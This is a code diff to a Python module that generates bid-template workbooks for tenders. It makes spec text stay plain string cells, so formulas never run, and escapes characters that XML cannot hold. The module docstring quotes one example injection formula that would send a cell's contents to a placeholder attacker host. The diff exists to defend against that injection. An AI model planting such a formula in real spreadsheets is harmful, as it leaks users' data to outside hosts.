@@ -7,6 +7,10 @@ holding choice lists. Sheets are protected (without a password: the protection k
 intact, it is not security) and only input cells are unlocked. Input cells carry data
 validation: number ranges, yes/no and choice lists, character limits.
 
+Every text from the spec is a string cell, never a formula or an error value: a title such as
+`=WEBSERVICE("https://evil.example/?"&B3)` is shown as written (with Excel's quote prefix), and
+characters that XML cannot hold are shown as their codes (`\\ufffe`).
+
 The workbook bytes are deterministic: fixed document times and zip entry times.
 """
 
@@ -33,11 +37,42 @@ from svspec.bids.spreadsheet import (
     SECTION_SHEETS,
     column_letter,
 )
+from svspec.plaintext import visible
 
 _FIXED_TIME = datetime.datetime(2000, 1, 1, 0, 0, 0)
 _INPUT_FILL = PatternFill("solid", fgColor="FFF2CC")
 _HEADER_FONT = Font(bold=True)
 _WIDTHS = (10, 40, 10, 22, 24, 50, 30, 50, 40, 30)
+
+
+# Characters XML 1.0 cannot hold (a workbook with one is "unreadable content" to Excel), and
+# line separators that some viewers take as the end of the cell's text.
+_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufdd0-\ufdef\ufffe\uffff\u2028\u2029]")
+
+
+def _text(value: object) -> object:
+    """A value for a cell, with characters a workbook cannot hold shown as their codes."""
+    if isinstance(value, str) and _NOT_XML.search(value):
+        return _NOT_XML.sub(lambda match: visible(match.group()), value)
+    return value
+
+
+def _row(values: list[object]) -> list[object]:
+    return [_text(v) for v in values]
+
+
+def _strings_stay_text(wb: Workbook) -> None:
+    """Make every cell openpyxl read as a formula (`=...`) or error (`#N/A`) a plain string cell.
+
+    svspec writes no formulas into cells: each such value is spec text, which suppliers must see
+    as written and which must never run (`=WEBSERVICE`, `=HYPERLINK`) when they open the template.
+    """
+    for sheet in wb.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.data_type in ("f", "e"):
+                    cell.data_type = "s"
+                    cell.quotePrefix = True
 
 
 def _unlock(cell: object) -> None:
@@ -67,7 +102,7 @@ def _validation(rule: AnswerRule, lists: object, list_row: list[int]) -> DataVal
     if answer.kind == "choice" and answer.choices:
         start = list_row[0]
         for i, choice in enumerate(answer.choices):
-            lists.cell(row=start + i, column=1, value=choice)  # type: ignore[attr-defined]
+            lists.cell(row=start + i, column=1, value=_text(choice))  # type: ignore[attr-defined]
         list_row[0] = start + len(answer.choices)
         return DataValidation(type="list", formula1=f"Lists!$A${start}:$A${start + len(answer.choices) - 1}",
                               **common)
@@ -102,7 +137,7 @@ def build_workbook(tender: model.Tender) -> Workbook:
         if text:
             lines += ["", " ".join(text.split())]
     for row, text in enumerate(lines, start=1):
-        intro.cell(row=row, column=1, value=text)
+        intro.cell(row=row, column=1, value=_text(text))
     intro["A1"].font = Font(bold=True, size=14)
     intro["A4"].font = _HEADER_FONT
     intro.column_dimensions["A"].width = 110
@@ -142,10 +177,10 @@ def build_workbook(tender: model.Tender) -> Workbook:
         sheet.freeze_panes = "C2"
         # Rows are counted here: openpyxl's `max_row` scans every cell, once per row made it quadratic.
         for row, rule in enumerate(section_rules.values(), start=2):
-            sheet.append([
+            sheet.append(_row([
                 rule.code, rule.title, rule.unit or "", expected_kind(rule.answer, rule.unit),
                 describe_limits(rule.answer, rule.unit) or "", rule.guidance or "",
-                "; ".join(rule.evidence_with_bid), _scoring_note(rule, section), None, None])
+                "; ".join(rule.evidence_with_bid), _scoring_note(rule, section), None, None]))
             for column in range(1, len(HEADERS) + 1):
                 sheet.cell(row=row, column=column).alignment = Alignment(wrap_text=True, vertical="top")
             _unlock(sheet.cell(row=row, column=ANSWER_COLUMN))
@@ -161,7 +196,8 @@ def build_workbook(tender: model.Tender) -> Workbook:
     lists.protection.sheet = True
     wb.security = WorkbookProtection(lockStructure=True)
     wb.properties.creator = "svspec"
-    wb.properties.title = f"Bid to {tender.title}"
+    wb.properties.title = str(_text(f"Bid to {tender.title}"))
+    _strings_stay_text(wb)
     return wb
 
 
